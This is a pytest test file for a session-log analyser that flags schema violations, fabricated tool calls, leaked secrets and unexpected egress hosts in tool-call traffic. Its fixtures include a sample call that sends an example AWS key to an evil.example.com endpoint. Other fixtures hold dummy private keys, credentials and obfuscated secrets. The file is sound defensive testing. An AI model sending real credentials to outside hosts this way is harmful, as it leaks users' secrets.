"""Detectors on small logs: one session per case, all cases in one frames table."""

import collections

import pytest

from sessionlens.operators.detectors import Sessions, detect
from sessionlens.operators import rollups as r
from sessionlens.operators.policy import policy_verdicts
from wire import SCHEMA, c2s, call, frames, handshake, result, s2c, tool

HIDE = "A" + "KIA"
KEY = HIDE + "IOSFODNN7EXAMPLE"
SERVER = [tool(description="talks to https://api.trusted-vendor.com/v1")]
PEM = "-----BEGIN RSA " + "PRIVATE KEY-----" + "M" * 64 + "-----END RSA " + "PRIVATE KEY-----"


def gate(entry, action, **more):
    return {**entry, "gate": {"action": action, "tool": "web_search", **more}}


CASES = {
    "clean": handshake() + [call(3), result(3)],
    "collision": handshake() + [s2c(id=3, method="ping"), call(3), c2s(id=3, result={}), result(3)],
    "missing": handshake() + [call(3, limit=1)],
    "mistyped": handshake() + [call(3, query=5)],
    "bool_as_int": handshake() + [call(3, query="x", limit=True)],
    "float_as_int": handshake() + [call(3, query="x", limit=1.5)],
    "extra": handshake() + [call(3, query="x", other=1)],
    "list_type": handshake([tool(schema={"properties": {"q": {"type": ["string", "null"]}}})]) + [call(3, q=None), call(4, q=1)],
    "not_object": handshake() + [c2s(id=3, method="tools/call", params={"name": "web_search", "arguments": [1]})],
    "early": [*handshake()[:2], call(9), *handshake()[2:]],
    "pipelined": [*handshake()[:4], call(9), handshake()[4]],
    "no_listing": [*handshake()[:3], call(9)],
    "capability": [*handshake(), s2c(id=7, method="sampling/createMessage")],
    "granted": [*handshake(capabilities={"sampling": {}}), s2c(id=7, method="sampling/createMessage")],
    "no_hello": [handshake()[2], s2c(id=7, method="roots/list")],
    "unknown": [*handshake(), s2c(id=7, method="weird/thing"), s2c(id=8, method="ping"), s2c(method="weird/note")],
    "orphan": [*handshake(), result(99), s2c(id=None, result={})],
    "surface": [*handshake(), c2s(id=4, method="tools/list"), s2c(id=4, result={"tools": [tool(), tool("new")]})],
    "late": [call(3), *handshake()],
    "gated": [*handshake(), gate(call(3), "blocked"), gate(s2c(id=3, error={"code": 1, "message": "no"}), "injected"),
              gate(call(4), "gate_skipped", reason="no_surface_timeout"), gate(call(5), "gate_disabled")],
    "fabricated": handshake() + [call(3, "arxiv_lookup", q="x")],
    "bracket": handshake([tool("<img>")]) + [call(3, "<img>"), result(3, content=PEM)],
    "A": handshake(SERVER) + [call(3, endpoint="https://evil.example.com/x", body="key " + KEY)],
    "B": handshake(SERVER) + [call(3, endpoint="https://bucket.s3.amazonaws.com/x", body=KEY)],
    "C": handshake(SERVER) + [call(3, url="https://bucket.s3.amazonaws.com/x")],
    "D": handshake(SERVER) + [call(3, url="https://api.trusted-vendor.com/x")],
    "E": handshake(SERVER) + [call(3, query="mail bob@example.org please")],
    "F1": handshake(SERVER) + [call(3, query="4111111111111111")],
    "F2": handshake(SERVER) + [call(3, query="4111111111111112")],
    "G": handshake(SERVER) + [call(3, query="​".join(KEY) + " ｂｏｂ＠example.org")],
    "I": handshake(SERVER) + [call(3), result(3, content=PEM + " postgres" + "://u:secretpw@db.example.com:5432/app")],
    "J": handshake(SERVER) + [call(3), result(3, content="bob@example.org")],
    "K": handshake(SERVER) + [call(3, query=("-----BEGIN RSA " + "PRIVATE KEY-----") * 5000)],
    "bare": handshake(SERVER) + [call(3, target="Collector.Evil-Host.io ", note="see docs.python.org now", quoted='"x.com"')],
}

EXPECT = {
    "clean": {}, "collision": {}, "pipelined": {}, "granted": {}, "no_hello": {}, "late": {"premature_call": 2},
    "missing": {"schema_violation": 3 - 2 + 1}, "mistyped": {"schema_violation": 2}, "bool_as_int": {"schema_violation": 2},
    "float_as_int": {"schema_violation": 2}, "extra": {"schema_violation": 2}, "list_type": {"schema_violation": 2},
    "not_object": {"schema_violation": 2},
    "early": {"premature_call": 2}, "no_listing": {"call_before_declaration": 1, "fabricated_tool_call": 3},
    "capability": {"capability_violation": 3}, "unknown": {"unknown_server_request": 2},
    "orphan": {"orphaned_response": 1}, "surface": {"surface_change": 2},
    "gated": {"gate_blocked": 1, "gate_injected_response": 1, "gate_skipped": 1},
    "fabricated": {"fabricated_tool_call": 3}, "bracket": {},
    "A": {"pii_aws_access_key": 3, "unexpected_egress_host": 3}, "B": {"pii_aws_access_key": 3, "unexpected_egress_host": 2},
    "C": {}, "D": {}, "E": {"pii_email_address": 1}, "F1": {"pii_credit_card": 3}, "F2": {},
    "G": {"pii_aws_access_key": 3, "pii_email_address": 1},
    "I": {"pii_in_result_rsa_private_key": 3, "pii_in_result_database_url": 3}, "J": {}, "K": {},
    "bare": {"unexpected_egress_host": 2},
}


@pytest.fixture(scope="module")
def sessions(spark):
    return Sessions(frames(spark, CASES)).stored()


@pytest.fixture(scope="module")
def found(sessions):
    return detect(sessions).collect()


def test_expected_findings(found):
    got = collections.defaultdict(dict)
    for row in found:
        # calls of the scan cases carry arguments the base schema does not know
        if row.session_id in "ABCDEFGIJK" or row.session_id in ("F1", "F2", "bare"):
            if row.subcategory == "schema_violation":
                continue
        got[row.session_id][row.subcategory] = row.severity
    assert {case: got[case] for case in CASES} == EXPECT


def test_texts(found):
    texts = {(row.session_id, row.subcategory): row.explanation for row in found}
    assert texts["list_type", "schema_violation"] == (
        "'web_search': argument 'q' is int, schema expects ['string', 'null']"
    )
    assert texts["not_object", "schema_violation"] == "'web_search': arguments are list, schema expects object"
    assert texts["surface", "surface_change"].endswith("delta: ['new']")
    assert texts["A", "pii_aws_access_key"] == (
        "tools/call 'web_search' argument contains AWS access key ID: [aws_access_key redacted · 20 chars]"
    )
    assert texts["bare", "unexpected_egress_host"].startswith("tools/call 'web_search' reaches collector.evil-host.io")


def test_no_secret_leaves(found):
    everything = " ".join(str(row) for row in found)
    assert KEY[:12] not in everything and "secretpw" not in everything and "M" * 12 not in everything


def test_strict_call_kind_scans_bracket_results(spark):
    strict = Sessions(frames(spark, {"bracket": CASES["bracket"]}), strict_call_kind=True)
    assert [r.subcategory for r in detect(strict).collect()] == ["pii_in_result_rsa_private_key"]


def test_failing_detector_is_a_finding(spark):
    def broken(_):
        raise RuntimeError("boom")

    rows = detect(Sessions(frames(spark, {"clean": CASES["clean"]})), (broken,)).collect()
    assert [(row.subcategory, row.severity) for row in rows] == [("detector_error", 2)]
    assert "RuntimeError: boom" in rows[0].explanation


def test_verdict_ignores_info(sessions, spark):
    kept = detect(sessions).filter("session_id IN ('clean', 'gated', 'fabricated')")
    ids = spark.createDataFrame([("clean",), ("gated",), ("fabricated",)], "session_id string")
    got = {row.session_id: row.verdict for row in r.verdicts(ids, kept).collect()}
    assert got == {"clean": "CLEAN", "gated": "CLEAN", "fabricated": "HOSTILE OR HALLUCINATED"}


def test_error_kinds(spark):
    entries = handshake() + [
        call(3), s2c(id=3, error={"message": "bad"}), call(4), result(4, isError=True, message="denied"),
        s2c(id=50, error={"code": 1}),
    ]
    rows = r.error_taxonomy(Sessions(frames(spark, {"s": entries})).events).orderBy("seq").collect()
    assert [(x.seq, x.error_kind, x.message) for x in rows] == [
        (7, "tool_error", "bad"), (9, "tool_error", "denied"), (10, "protocol_error", '{"code":1}'),
    ]


def test_policy_uses_latest_surface(spark):
    shrink = s2c(id=50, result={"tools": []})
    log = [call(9), *handshake(), call(3), shrink, call(4), call(5, "other")]
    stamped = [{**e, "ts": f"2026-01-01T00:00:0{n}Z"} for n, e in enumerate(log)]
    lines = Sessions(frames(spark, {"s": stamped})).lines
    rows = policy_verdicts(lines, hold=60.0).orderBy("seq").collect()
    assert [x.verdict for x in rows] == ["forward", "forward", "blocked", "blocked"]
    rows = policy_verdicts(lines, hold=2.0, enforce=False).orderBy("seq").collect()
    assert [x.verdict for x in rows] == ["gate_skipped", "forward", "gate_disabled", "gate_disabled"]


def test_heatmap_counts_only_called_tools(spark):
    entries = handshake() + [call(3), result(3, isError=True), call(4), result(4), call(5, "made_up")]
    s = Sessions(frames(spark, {"s": entries}))
    rows = r.tool_heatmap(s, detect(s)).orderBy("tool").collect()
    assert [(x.tool, x.calls, x.errors, x.max_severity, x.fabricated) for x in rows] == [
        ("made_up", 1, 0, 3, True), ("web_search", 2, 1, 0, False),
    ]


def test_schema_of_integer_kinds(spark):
    from pyspark.sql import functions as F
    from sessionlens.functions.jsonvalue import kind_name

    texts = ["1", "1.0", "1e3", "9223372036854775808", "true", "null", '"x"', "{}", "[]"]
    rows = spark.createDataFrame([(t,) for t in texts], "t string").select(kind_name(F.parse_json("t")).alias("k"))
    assert [x.k for x in rows.collect()] == ["int", "float", "float", "int", "bool", "NoneType", "str", "dict", "list"]
    assert SCHEMA["required"] == ["query"]
